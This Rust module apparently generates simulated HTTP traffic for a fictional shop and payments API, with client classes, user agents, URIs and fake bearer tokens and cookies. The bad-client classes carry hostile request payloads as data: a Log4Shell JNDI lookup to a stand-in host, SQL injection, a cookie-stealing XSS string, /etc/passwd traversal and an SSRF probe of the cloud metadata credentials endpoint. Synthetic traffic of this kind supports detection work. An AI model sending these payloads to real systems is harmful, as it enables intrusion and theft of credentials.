//! What a client's requests look like: method and URI, user agent, and the headers it sends
//! (secret-bearing ones included — they are redacted when the sample is built).

use super::noise::{BASE64URL, HEX, hash, token, unit};
use super::scenario::{Class, Scenario};

const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
];

const BAD_AGENTS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
];

fn pick<'a>(list: &[&'a str], u: f64) -> &'a str {
    list[((u * list.len() as f64) as usize).min(list.len() - 1)]
}

/// The user agent a client sends; `u` picks among its usual ones.
pub fn user_agent(sc: &Scenario, client: usize, u: f64) -> String {
    let c = &sc.clients[client];
    let named = match c.name {
        "mobile-beta" => "AcmeShop/5.13.0-beta (iPhone; iOS 18.1; Scale/3.00)",
        "student-lab" => "python-requests/2.32.3",
        "ci-smoke-tests" => "k6/0.54.0 (https://k6.io/)",
        "status-page" => "StatusPageMonitor/2.1 (+https://status.acme.example)",
        "payments-batch" => "acme-settlement-batch/3.8.0 aws-sdk-java/2.29.6",
        "psp-webhooks" => "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
        "qa-runner" => "Playwright/1.48.2",
        "acme-logistics" | "globex-retail" | "initech-sync" | "umbrella-health"
        | "stark-industries" => {
            return format!(
                "{}-integration/4.{} (+https://{}.example/bot)",
                c.name,
                (u * 9.0) as u32,
                c.name
            );
        }
        _ => "",
    };
    if !named.is_empty() {
        return named.to_string();
    }
    match c.class {
        Class::BadBot => pick(BAD_AGENTS, u).to_string(),
        Class::Scraper => "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36".into(),
        Class::Flood => "Go-http-client/1.1".into(),
        Class::BadInput => "${jndi:ldap://198.51.100.23:1389/Exploit}".into(),
        Class::Probe => "curl/8.5.0".into(),
        _ => pick(BROWSERS, u).to_string(),
    }
}

/// Method and URI of one request; `n` varies ids and pages.
pub fn request(sc: &Scenario, client: usize, n: u64, u: f64) -> (&'static str, String) {
    let c = &sc.clients[client];
    let id = 100 + n % 9_800;
    match c.class {
        Class::Stuffing => ("POST", "/login".into()),
        Class::Scraper => ("GET", format!("/products?page={}", 1 + n % 4_000)),
        Class::BadBot => pick_req(
            u,
            &[
                ("GET", "/v1/products?id=1%27%20OR%20%271%27=%271".into()),
                ("GET", "/.env".into()),
                ("GET", "/admin/phpinfo.php".into()),
            ],
        ),
        Class::Probe => pick_req(
            u,
            &[
                (
                    "GET",
                    "/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E".into(),
                ),
                ("GET", "/v1/files?path=../../../../etc/passwd".into()),
                (
                    "GET",
                    "/v1/proxy?url=http://169.254.169.254/latest/meta-data/iam/".into(),
                ),
            ],
        ),
        Class::BadReputation => pick_req(
            u,
            &[
                ("GET", "/wp-login.php".into()),
                ("GET", format!("/v1/products?page={}", n % 50)),
            ],
        ),
        Class::BadInput => (
            "GET",
            "/v2/partners/orders?since=${jndi:ldap://198.51.100.23:1389/a}".into(),
        ),
        _ => stage_request(c.stage, n, id, u),
    }
}

fn pick_req(u: f64, options: &[(&'static str, String)]) -> (&'static str, String) {
    options[((u * options.len() as f64) as usize).min(options.len() - 1)].clone()
}

fn stage_request(stage: usize, n: u64, id: u64, u: f64) -> (&'static str, String) {
    let tok = token(&[n, 0x7a], 14, BASE64URL).replace(['-', '_'], "x");
    match stage {
        0 | 1 => pick_req(
            u,
            &[
                ("POST", "/v1/charges".into()),
                ("POST", "/v1/charges".into()),
                ("GET", format!("/v1/charges/ch_{tok}")),
                ("POST", "/v1/refunds".into()),
                ("GET", format!("/v1/customers/cus_{tok}/payment_methods")),
            ],
        ),
        2 => pick_req(
            u,
            &[
                ("GET", format!("/v1/products/{id}")),
                ("GET", format!("/v1/products/{id}")),
                (
                    "GET",
                    format!("/v1/products?category=running-shoes&page={}", 1 + n % 12),
                ),
                ("GET", "/v1/search?q=trail+running+shoes".into()),
                ("GET", format!("/v1/products/{id}/reviews")),
            ],
        ),
        3 => pick_req(
            u,
            &[
                (
                    "GET",
                    format!("/v2/partners/orders?since=2026-11-17T{:02}:00:00Z", n % 24),
                ),
                ("POST", "/v2/partners/shipments".into()),
                ("GET", format!("/v2/partners/inventory/sku-{id}")),
                ("PUT", format!("/v2/partners/orders/ord_{tok}/status")),
            ],
        ),
        _ => pick_req(
            u,
            &[
                ("POST", "/login".into()),
                ("POST", "/oauth/token".into()),
                ("GET", "/.well-known/jwks.json".into()),
                ("GET", "/userinfo".into()),
            ],
        ),
    }
}

/// A JWT-looking bearer token.
pub fn bearer(n: u64) -> String {
    format!(
        "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.{}.{}",
        token(&[n, 1], 96, BASE64URL),
        token(&[n, 2], 43, BASE64URL)
    )
}

pub fn session_cookie(n: u64) -> String {
    format!(
        "session={}; _ga=GA1.2.{}.{}",
        token(&[n, 3], 32, HEX),
        hash(&[n, 4]) % 1_000_000_000,
        1_700_000_000 + hash(&[n, 5]) % 60_000_000
    )
}

/// Which secret-bearing header a normal client sends, besides its API key.
pub fn credential(sc: &Scenario, client: usize, n: u64) -> Option<(&'static str, String)> {
    let c = &sc.clients[client];
    if c.class != Class::Normal && c.class != Class::Stuffing {
        return None;
    }
    match c.stage {
        0 | 1 => Some(("authorization", bearer(n))),
        4 if c.class == Class::Normal && unit(&[n, 9]) < 0.5 => Some(("authorization", bearer(n))),
        2 | 4 => Some(("cookie", session_cookie(n))),
        _ => None,
    }
}
